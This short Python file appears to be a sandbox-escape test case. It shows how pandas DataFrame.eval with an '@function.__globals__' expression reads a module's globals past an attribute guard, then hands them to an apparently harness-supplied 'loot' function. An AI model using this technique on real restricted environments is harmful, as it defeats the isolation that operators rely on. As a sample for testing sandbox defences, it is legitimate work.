# Read a forbidden attribute in the text of an evaluation.
# mechanism: DataFrame.eval follows dots after @ names
# stopped by: builtins
# reason: the library evaluates text unguarded
# imports: pandas

import json

import pandas

function = json.dumps
kept = []


def keep(thing):
    kept.append(thing)
    return 1


pandas.DataFrame({"a": [1]}).eval("@keep(@function.__globals__)")
loot(kept[0])
